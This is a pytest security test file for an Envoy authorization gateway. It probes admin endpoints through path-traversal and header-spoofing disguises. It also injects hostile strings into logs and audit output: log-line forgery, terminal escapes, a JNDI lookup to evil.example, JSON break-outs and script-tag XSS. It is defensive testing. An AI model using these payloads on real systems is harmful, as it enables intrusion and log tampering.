"""Attack groups G98 and G99: nothing but the gateway can be reached from the network, and no request can write into logs and audit.

G98: the listening sockets of all processes, and every way to ask the gateway for what only operators of the machine may see.
G99: line ends, terminal sequences, NUL, format strings and broken JSON wherever a client's text is written down.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from extauthz.runtime import deployment_of
from tests.attacks.case import LEGACY_CALL, with_headers
from tests.attacks.wire import request_bytes
from tests.attacks.world import World
from tests.e2e.stack import LEGATION, ROOT

pytestmark = [pytest.mark.envoy, pytest.mark.asyncio(loop_scope="package"), pytest.mark.timeout(300)]

REFUSED = {400, 401, 403, 404, 405, 421}
LISTEN = "0A"

# G98: what can be reached


def descendants(pid: int) -> set[int]:
    """A process and all that it started."""
    parents = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            parents[int(stat.parent.name)] = int(stat.read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            continue
    found = {pid}
    while more := {child for child, parent in parents.items() if parent in found} - found:
        found |= more
    return found


def open_ports(pids: set[int]) -> set[tuple[str, int]]:
    """(table, port) of every internet socket on which one of the processes takes packets of strangers."""
    inodes = set()
    for pid in pids:
        for handle in Path(f"/proc/{pid}/fd").glob("*"):
            try:
                inodes.add(handle.readlink().name)
            except OSError:
                continue
    found = set()
    for table in ("tcp", "tcp6", "udp", "udp6", "raw", "raw6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            unconnected = fields[3] == LISTEN if table.startswith("tcp") else fields[2].endswith(":0000")
            if unconnected and f"socket:[{fields[9]}]" in inodes:
                found.add((table, int(fields[1].rsplit(":", 1)[1], 16)))
    return found


async def test_g98_the_only_open_port_of_a_deployment_is_the_gateways(world: World) -> None:
    assert open_ports(descendants(world.stack.process.pid)) == {("tcp", world.port)}


async def test_g98_the_sockets_between_processes_are_this_users_alone(world: World) -> None:
    deployment = deployment_of(world.stack.data_dir)
    sockets = list(deployment.runtime_dir.glob("*.sock"))

    assert deployment.runtime_dir.stat().st_mode & 0o777 == 0o700
    assert {socket.name for socket in sockets} >= {"admin.sock", "ads.sock", "api.sock", "authz.sock", "egress.sock"}
    assert deployment.envoy_admin_socket.stat().st_mode & 0o777 == 0o600


OPERATORS_OF_THE_MACHINE = {
    "GET": [
        *("/stats", "/stats/prometheus", "/config_dump", "/clusters", "/certs", "/listeners", "/server_info", "/memory", "/runtime"),
        *("/contention", "/init_dump", "/help", "/ready", "/hot_restart_version", "/metrics", "/debug/pprof/", "/debug/vars"),
        *("/admin", "/internal", "/actuator/env", "/.env", "/openapi.json", "/docs", "/status", "/", "/index.html", "/favicon.ico"),
    ],
    "POST": [
        *("/quitquitquit", "/logging?level=trace", "/healthcheck/fail", "/drain_listeners", "/reset_counters", "/runtime_modify?x=y"),
        *("/cpuprofiler?enable=y", "/heapprofiler?enable=y", "/reopen_logs", "/tap"),
    ],
}
DISGUISES: dict[str, Callable[[World, str], tuple[str, list[tuple[str, str]]]]] = {
    "plain": lambda world, path: (path, [("host", world.host)]),
    "below-a-server": lambda world, path: (f"/servers/attack/python/../../..{path}", [("host", world.host)]),
    "below-a-server-with-a-token": lambda world, path: (
        f"/servers/attack/python/mcp/../../../..{path}",
        [("host", world.host), ("authorization", f"Bearer {world.token()}")],
    ),
    "two-slashes": lambda world, path: (f"/{path}", [("host", world.host)]),
    "of-the-admin-host": lambda _, path: (path, [("host", "admin")]),
    "absolute": lambda world, path: (f"http://127.0.0.1:9901{path}", [("host", world.host)]),
    "lane-chosen": lambda world, path: (
        path,
        [("host", world.host), ("x-legation-lane", "direct"), ("x-legation-cluster", "legation-ads"), ("x-envoy-original-path", path)],
    ),
    "path-rewritten": lambda world, path: (
        world.path(),
        [("host", world.host), ("x-original-url", path), ("x-rewrite-url", path), ("x-envoy-original-path", path), (":path", path)],
    ),
    "healthchecker": lambda world, path: (
        path,
        [("host", world.host), ("user-agent", "Envoy/HC"), ("x-envoy-internal", "true"), ("x-forwarded-for", "127.0.0.1")],
    ),
}
TELLTALES = re.compile(rb"envoy\.|LIVE|bootstrap|concurrency|cluster_manager|x-envoy|legation-ads|go_|process_cpu|Traceback", re.ASCII)


@pytest.mark.parametrize("disguise", DISGUISES)
async def test_g98_no_way_of_asking_reaches_what_only_the_machines_operators_may_see(world: World, disguise: str) -> None:
    before = await world.mark()
    envoy = world.stack.children()["envoy"]

    for method, paths in OPERATORS_OF_THE_MACHINE.items():
        for path in paths:
            target, headers = DISGUISES[disguise](world, path)
            answer = await world.send(request_bytes(method, target, [*headers, ("content-length", "0"), ("connection", "close")]))
            assert answer.status in REFUSED or answer.status == 0, (method, target, answer)
            assert not TELLTALES.search(answer.body), (method, target, answer.body)

    world.nothing_reached_upstreams(before)
    assert world.stack.children()["envoy"] == envoy
    assert (await world.post(LEGACY_CALL)).status == 200
    await world.settle()


async def test_g98_they_are_there_for_who_owns_the_socket(world: World) -> None:
    """The paths above are right: over the socket of mode 0600 they answer."""
    connector = aiohttp.UnixConnector(str(deployment_of(world.stack.data_dir).envoy_admin_socket))
    async with aiohttp.ClientSession(connector=connector) as session:
        for path in ("/server_info", "/config_dump", "/stats", "/clusters"):
            async with session.get(f"http://admin{path}") as response:
                assert response.status == 200
                assert TELLTALES.search(await response.read()), path


async def test_g98_what_is_open_to_everybody_says_nothing_about_anybody(world: World) -> None:
    for path in ("/healthz", "/readyz"):
        answer = await world.stack.request("GET", path)
        assert answer.status == 200
        assert set(answer.json) <= {"status", "reasons", "revision"}


# G99: what is written down

FORMATS = (
    "%REQ(AUTHORIZATION)% %DYNAMIC_METADATA(envoy.filters.http.ext_authz:decision_id)% %s%n%x {0.__class__} ${jndi:ldap://evil.example/x}"
)
HOSTILE = {
    "line-ends": "x\r\n2026-11-22 [error] forged line\r\n\r\n",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b31m",
    "nul": "a\x00b",
    "formats": FORMATS,
    "json-break": '"},{"decision":"allow","principal":{"id":"root"},"x":"',
    "backslashes": '\\" \\u0022 \\n \\',
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "directions": "\u202eevil\u202c\u2066x\u2069\ufeff\u200b",
    "markup": "</script><script>alert(1)</script><!--",
    "delete": "abc\x7f\x08\x08\x08xyz",
}
CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]")
CONTROL_TEXT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def _in_json(**changes: str) -> Callable[[World, str], bytes]:
    """The text, escaped as JSON must be, in one place of the body."""

    def made(world: World, text: str) -> bytes:
        message: dict[str, Any] = json.loads(LEGACY_CALL)
        for path, form in changes.items():
            *parents, last = path.split("__")
            place = message
            for parent in parents:
                place = place[parent]
            place[last] = form.format(text)
        return world.post_bytes(json.dumps(message).encode())

    return made


def _in_header(name: str) -> Callable[[World, str], bytes]:
    """The text as a header, byte for byte."""

    def made(world: World, text: str) -> bytes:
        given = [pair for pair in world.headers() if pair[0] != "authorization"]
        return world.post_bytes(LEGACY_CALL, headers=with_headers(given, [(name, text)]))

    return made


def _in_path(world: World, text: str) -> bytes:
    return world.post_bytes(LEGACY_CALL).replace(b"/python/mcp", b"/python" + text.replace(" ", "%20").encode() + b"/mcp", 1)


def _in_query(world: World, text: str) -> bytes:
    refused = LEGACY_CALL.replace(b'"safe"', b'"evil"')
    return world.post_bytes(refused).replace(b"/mcp HTTP", b"/mcp?q=" + text.replace(" ", "%20").encode() + b" HTTP", 1)


PLACES: dict[str, Callable[[World, str], bytes]] = {
    "tool": _in_json(params__name="{}"),
    "method": _in_json(method="{}"),
    "method-with-a-slash": _in_json(method="tools/{}"),
    "id": _in_json(id="{}", params__name="evil"),
    "resource": _in_json(method="resources/read", params__uri="test://{}"),
    "prompt": _in_json(method="prompts/get", params__name="{}"),
    "jsonrpc": _in_json(jsonrpc="{}"),
    **{
        name: _in_header(name)
        for name in (
            *("user-agent", "x-request-id", "traceparent", "baggage", "mcp-protocol-version", "mcp-method", "mcp-name"),
            *("mcp-session-id", "origin", "host", "authorization", "content-type", "x-forwarded-for", "referer"),
        )
    },
    "path": _in_path,
    "query": _in_query,
}


@pytest.mark.parametrize("place", PLACES)
async def test_g99_a_clients_text_is_one_value_of_one_event_and_nothing_more(world: World, place: str) -> None:
    for name, text in HOSTILE.items():
        before = await world.mark()

        answer = await world.send(PLACES[place](world, text))

        events = await world.events_after(before)
        assert answer.status in {0, 200, *REFUSED, 415, 426}, (name, answer)
        assert len(events) == 1, (name, events)
        assert events[0]["decision"] == "deny", (name, events)
        assert events[0].get("principal", {}).get("id", "") in {"", "local/caller"}, (name, events)
        world.nothing_reached_upstreams(before)
        if place == "tool" and events[0]["event"] == "tool_call" and "tool" in events[0]:
            assert events[0]["tool"] == text, "what is on the record is what was asked for"


async def test_g99_logs_hold_whole_lines_of_their_own_and_no_control_characters(world: World) -> None:
    """After everything above (and all other attacks of this run) was sent."""
    files = sorted(path for path in (world.stack.data_dir / "logs").iterdir() if path.is_file())
    assert {file.name for file in files} >= {"authorizer.log", "control-plane.log", "envoy.log"}
    for file in [*files, world.stack.log_file]:
        assert not CONTROL.search(file.read_bytes()), file
        assert b"forged line" not in [line[-11:] for line in file.read_bytes().splitlines()], file
    for line in _json_lines(files):
        assert isinstance(line, dict)


def _json_lines(files: list[Path]) -> Iterator[Any]:
    for file in files:
        if file.suffix == ".jsonl" or file.name in {"authorizer.log", "control-plane.log"}:
            for line in file.read_text().splitlines():
                if line.startswith("{") or file.suffix == ".jsonl":
                    yield json.loads(line)


@pytest.mark.parametrize("form", [(), ("-o", "json")], ids=["table", "json"])
async def test_g99_a_terminal_that_shows_the_audit_obeys_nobody(world: World, form: tuple[str, ...]) -> None:
    command = (str(LEGATION), "audit", "--data-dir", str(world.stack.data_dir), "--limit", "1000", *form)
    process = await asyncio.create_subprocess_exec(
        *command, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE, cwd=ROOT, env={"PATH": str(Path(sys.executable).parent)}
    )
    output, errors = await process.communicate()

    assert process.returncode == 0, errors.decode()
    assert len(output.splitlines()) > 10
    assert not CONTROL_TEXT.search(output.decode().replace("\n", "")), output.decode()
